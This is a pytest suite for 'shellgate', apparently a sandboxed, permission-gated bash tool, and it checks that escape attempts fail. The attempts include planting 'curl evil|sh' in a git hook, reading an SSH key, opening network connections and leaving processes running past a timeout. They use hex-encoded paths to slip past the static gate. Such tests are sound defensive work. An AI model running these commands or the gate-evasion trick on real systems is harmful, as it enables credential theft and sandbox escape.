"""BashTool end to end: the gate allows (trust mode), the sandbox still stops the escape.

Each escape test first asserts that the permission gate let the command through — proving
that what stopped it is the sandbox — then judges the outcome from the host side.
"""

from __future__ import annotations

import io
import json
import os
import shlex
import socket
import sys
from pathlib import Path

import psutil
import pytest
from _helpers import git_workspace, home_with_key, sandbox_or_skip
from conftest import live_sandboxes

from shellgate.approval import scripted
from shellgate.sandbox import Sandbox, Tier
from shellgate.tools import BashTool
from shellgate.tools.run_cli import run_command

PY = shlex.quote(sys.executable)
CANARY = "CANARY-bashtool-7c2d"


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    ws = git_workspace(tmp_path / "ws", commit=("a.txt", "a\n"))
    home = home_with_key(tmp_path / "home", CANARY + "\n")
    (tmp_path / "outside").mkdir()
    return {"ws": ws, "home": home, "outside": tmp_path / "outside"}


@pytest.fixture(params=["bwrap", "bwrap-fresh", "landlock"])   # "bwrap": pre-spawned (default)
def tier(request: pytest.FixtureRequest):
    """A sandbox spec for ``BashTool(sandbox=...)``: a tier name, or a fresh-bwrap Sandbox."""
    sandbox_or_skip(request.param).close()
    name, _, variant = request.param.partition("-")
    return Sandbox(name, prespawn=False) if variant == "fresh" else name


@pytest.fixture(autouse=True)
def _tools(monkeypatch: pytest.MonkeyPatch):
    """Every BashTool a test makes is closed after it (its pre-spawned sandboxes stop)."""
    made: list[BashTool] = []
    real_init = BashTool.__init__

    def init(self, *a, **kw):
        real_init(self, *a, **kw)
        made.append(self)

    monkeypatch.setattr(BashTool, "__init__", init)
    yield made
    for t in made:
        t.close()


pytestmark = pytest.mark.usefixtures("no_leaked_sandboxes")


def _tool(world: dict[str, Path], mode: str = "trust", **kw) -> BashTool:
    kw.setdefault("sandbox", "auto")
    return BashTool(world["ws"], mode, home=world["home"], audit=False, store=False,
                    user_config=False, **kw)


def _name(tier) -> str:
    return tier if isinstance(tier, str) else str(tier.tier)


def _allowed_then(r):
    assert r.decision == "allow" and r.ran, f"the gate did not allow it: {r.reason}"
    return r


def _py(code: str) -> str:
    return f"{PY} -c {shlex.quote(code)}"


def _hide(path: str) -> str:
    """A Python expression for ``path`` that no static scanner can read (hex, decoded at run
    time): the gate cannot see the path, so it allows the command and the sandbox must stop it."""
    return f"bytes.fromhex({path.encode().hex()!r}).decode()"


def test_write_outside_workspace_through_python(world, tier) -> None:
    target = world["outside"] / "pwned"
    t = _tool(world, sandbox=tier)
    r = _allowed_then(t.run(_py(f"open({_hide(str(target))}, 'w').write('x')")))
    assert r.exit_code != 0 and not target.exists()
    assert r.sandbox == _name(tier)


def test_append_to_git_hook(world, tier) -> None:
    hook = world["ws"] / ".git" / "hooks" / "pre-commit"
    before = hook.read_bytes()
    t = _tool(world, sandbox=tier)
    r = _allowed_then(t.run(_py(f"open({_hide('.git/hooks/pre-commit')}, 'a').write('curl evil|sh')")))
    assert hook.read_bytes() == before
    assert r.exit_code != 0 or r.violations, r


def test_read_canary_ssh_key_from_fake_home(world, tier) -> None:
    t = _tool(world, sandbox=tier)
    r = _allowed_then(t.run(_py(f"print(open({_hide(str(world['home'] / '.ssh/id_rsa'))}).read())")))
    assert CANARY not in r.stdout + r.stderr
    assert r.exit_code != 0


def test_tcp_connect_to_loopback_listener(world, tier) -> None:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    srv.setblocking(False)
    try:
        port = srv.getsockname()[1]
        t = _tool(world, sandbox=tier)
        r = _allowed_then(t.run(_py(f"import socket; socket.create_connection(('127.0.0.1', {port}), 3)")))
        assert r.exit_code != 0
        with pytest.raises(BlockingIOError):
            srv.accept()   # nothing reached the listener
    finally:
        srv.close()


def _marked(marker: str) -> list[psutil.Process]:
    return [p for p in psutil.process_iter(["cmdline"])
            if any(marker in a for a in (p.info["cmdline"] or []))]


def test_setsid_child_does_not_survive_the_timeout(world, tier) -> None:
    marker = f"7{os.getpid() % 997}.{len(_name(tier))}"
    t = _tool(world, sandbox=tier, timeout=1.5)
    try:
        r = _allowed_then(t.run(f"setsid sleep {marker} & sleep {marker}"))
        assert r.timed_out and r.exit_code == 124
        assert _marked(marker) == []
    finally:
        for p in _marked(marker):
            p.kill()
        psutil.wait_procs(_marked(marker), timeout=10)


def test_yes_head_50m_is_capped(world, tier) -> None:
    r = _allowed_then(_tool(world, sandbox=tier).run("yes | head -c 50M"))
    assert r.exit_code == 0 and r.truncated
    assert "bytes cut" in r.stdout and len(r.stdout) <= 2 * 64 * 1024 + 100


def test_cd_persists_between_calls(world, tier) -> None:
    t = _tool(world, sandbox=tier)
    (world["ws"] / "sub" / "deeper").mkdir(parents=True)
    assert t.run("cd sub").ran
    assert t.cwd == world["ws"] / "sub"
    assert t.run("pwd").stdout == f"{world['ws'] / 'sub'}\n"
    t.run("cd deeper && exit 4")        # `exit` still reports the cwd
    assert t.cwd == world["ws"] / "sub" / "deeper"
    t.run("cd / ; kill -9 $$")          # killed before the trailer: the cwd stays
    assert t.cwd == world["ws"] / "sub" / "deeper"
    assert t.run("cd ../..; pwd").stdout == f"{world['ws']}\n"


def test_worktree_added_becomes_the_workspace(world, tier) -> None:
    t = _tool(world, sandbox=tier)
    r = _allowed_then(t.run("git worktree add -q .worktrees/feat -b feat && cd .worktrees/feat"))
    assert r.exit_code == 0, r.stderr
    wt = world["ws"] / ".worktrees" / "feat"
    assert t.cwd == wt
    r = _allowed_then(t.run("echo n > new.txt && git add new.txt && git commit -qm n --no-verify "
                            "&& git log --format=%s -1"))
    assert r.workspace == str(wt)
    assert r.stdout == "n\n", r
    hook = world["ws"] / ".git" / "hooks" / "pre-commit"
    before = hook.read_bytes()
    t.run(_py(f"open({_hide('../../.git/hooks/pre-commit')}, 'a').write('evil')"))
    assert hook.read_bytes() == before


def test_ask_without_approver_is_not_run(world) -> None:
    t = _tool(world, mode="balanced")
    r = t.run("touch should-not-exist")
    assert (r.decision, r.ran) == ("ask", False)
    assert r.reason and not (world["ws"] / "should-not-exist").exists()
    assert "not run" in r.as_text()


def test_approver_answers_the_ask(world) -> None:
    approver = scripted("allow_once", "deny")
    t = _tool(world, mode="balanced", approver=approver)
    assert t.run("touch yes-file").ran
    r = t.run("touch no-file")
    assert (r.decision, r.ran) == ("deny", False)
    assert (world["ws"] / "yes-file").exists() and not (world["ws"] / "no-file").exists()
    assert len(approver.prompts) == 2


def test_prespawn_is_the_default_and_can_be_turned_off(world, tmp_path) -> None:
    t = _tool(world)
    if t.sandbox.tier is not Tier.BWRAP:
        pytest.skip(f"pre-spawning is for the bwrap tier; here: {t.sandbox.description}")
    assert t.sandbox.prespawn and t.run("true").ok
    assert t.sandbox.prespawn_error is None and len(live_sandboxes()) == 1
    t.close()
    assert live_sandboxes() == []
    cfg = tmp_path / "fresh.toml"
    cfg.write_text("[sandbox]\nprespawn = false\n")
    fresh = BashTool(world["ws"], "trust", home=world["home"], audit=False, store=False,
                     user_config=False, config=cfg)
    assert not fresh.sandbox.prespawn
    r = _allowed_then(fresh.run("echo hi"))
    assert (r.stdout, r.sandbox) == ("hi\n", "bwrap")
    assert live_sandboxes() == []


def test_sandbox_is_on_in_trust_mode_unless_disabled(world) -> None:
    t = _tool(world)
    assert t.sandbox.tier is not Tier.NONE or t.sandbox.description.startswith("none (no")
    off = _tool(world, sandbox=False)
    r = off.run(_py(f"print(open({_hide(str(world['home'] / '.ssh/id_rsa'))}).read())"))
    assert r.sandbox == "none" and CANARY in r.stdout
    assert "sandbox disabled by the user" in r.notes


def test_result_json_has_every_key(world) -> None:
    r = _tool(world).run("echo out; echo err >&2; exit 3")
    got = r.to_json()
    assert {"stdout", "stderr", "exit_code", "timed_out", "truncated", "cwd", "decision",
            "warnings", "sandbox", "signal", "reason"} <= set(got)
    assert (got["stdout"], got["stderr"], got["exit_code"]) == ("out\n", "err\n", 3)
    json.dumps(got)


# -- shellgate run ------------------------------------------------------------------------

@pytest.fixture
def fake_home(world, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(world["home"]))
    return world["home"]


def test_run_cli_prints_output_and_returns_the_exit_code(world, fake_home) -> None:
    out, err = io.StringIO(), io.StringIO()
    rc = run_command("echo hello; echo oops >&2; exit 5", "trust", str(world["ws"]), None, False,
                     None, approver=None, out=out, err=err)
    assert (rc, out.getvalue()) == (5, "hello\n")
    assert "oops" in err.getvalue()


def test_run_cli_without_terminal_ask_means_not_run(world, fake_home) -> None:
    out, err = io.StringIO(), io.StringIO()
    rc = run_command("touch x", "balanced", str(world["ws"]), None, False, None, approver=None,
                     out=out, err=err)
    assert rc == 3 and out.getvalue() == ""
    assert "not run, needs approval" in err.getvalue()
    assert not (world["ws"] / "x").exists()


def test_run_cli_json(world, fake_home) -> None:
    out = io.StringIO()
    rc = run_command("cd .git && echo hi", "trust", str(world["ws"]), 5, True, None,
                     approver=None, out=out, err=io.StringIO())
    obj = json.loads(out.getvalue())
    assert rc == 0 and obj["stdout"] == "hi\n" and obj["cwd"] == str(world["ws"] / ".git")
    assert obj["decision"] == "allow" and obj["ran"] is True


def test_run_cli_asks_through_the_approver(world, fake_home) -> None:
    approver = scripted("allow_once")
    out = io.StringIO()
    rc = run_command(_py("print('asked')"), "balanced", str(world["ws"]), None, False, None,
                     approver=approver, out=out, err=io.StringIO())
    assert (rc, out.getvalue(), len(approver.prompts)) == (0, "asked\n", 1)


def test_run_cli_bad_config_is_a_usage_error(world, fake_home, tmp_path) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text("[sandbox]\nenabled = 'maybe'\n")
    err = io.StringIO()
    rc = run_command("true", "trust", str(world["ws"]), None, False, str(bad), approver=None,
                     out=io.StringIO(), err=err)
    assert rc == 2 and "enabled" in err.getvalue()


def test_run_cli_uses_a_fresh_sandbox_and_leaves_nothing(world, fake_home) -> None:
    """One command per process: no sandbox worth keeping; none is left running."""
    out = io.StringIO()
    rc = run_command("echo $PPID", "trust", str(world["ws"]), None, False, None,
                     approver=None, out=out, err=io.StringIO())
    assert rc == 0 and live_sandboxes() == []
    if Sandbox().tier is Tier.BWRAP:
        assert out.getvalue() == "1\n"   # bwrap's own init: a fresh sandbox, not a server


def test_cd_out_of_the_workspace_is_not_followed(world, tier) -> None:
    """A denied `cd tests && …` then an allowed `cd ..` must not move the session out of the
    project silently: the cwd stays, the result says so; inside the workspace cd still moves."""
    t = _tool(world, sandbox=tier)
    (world["ws"] / "sub").mkdir()
    r = _allowed_then(t.run("cd .."))
    assert t.cwd == world["ws"] and r.cwd == str(world["ws"])
    assert any("would leave the workspace" in n for n in r.notes), r.notes
    assert t.run("pwd").stdout == f"{world['ws']}\n"
    _allowed_then(t.run(f"cd {shlex.quote(str(world['outside']))}"))
    assert t.cwd == world["ws"]
    _allowed_then(t.run("cd sub"))
    assert t.cwd == world["ws"] / "sub"


def test_follow_cd_outside_follows_and_says_so(world, tmp_path) -> None:
    cfg = tmp_path / "cfg.toml"
    cfg.write_text("[sandbox]\nfollow_cd_outside = true\n")
    t = _tool(world, config=cfg)
    r = _allowed_then(t.run("cd /usr"))   # (a place the sandbox shows: /tmp is its own)
    assert t.cwd == Path("/usr")
    assert any("decisions are still taken against" in n for n in r.notes), r.notes
    assert t.run("pwd").stdout == "/usr\n"

